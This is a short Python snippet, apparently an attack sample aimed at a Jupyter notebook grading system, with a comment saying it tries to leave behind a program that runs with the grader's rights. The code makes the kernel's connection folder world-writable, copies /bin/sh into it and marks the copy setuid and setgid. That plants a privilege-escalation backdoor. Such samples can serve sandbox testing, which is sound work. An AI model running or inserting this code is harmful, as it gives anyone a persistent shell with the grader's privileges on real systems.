# tries: to leave a program outside that runs with the rights of whoever graded
from ipykernel.kernelapp import IPKernelApp
import os, shutil

folder = os.path.dirname(IPKernelApp.instance().abs_connection_file)
os.chmod(folder, 0o777)
shutil.copy("/bin/sh", folder + "/sh")
os.chmod(folder + "/sh", 0o6777)
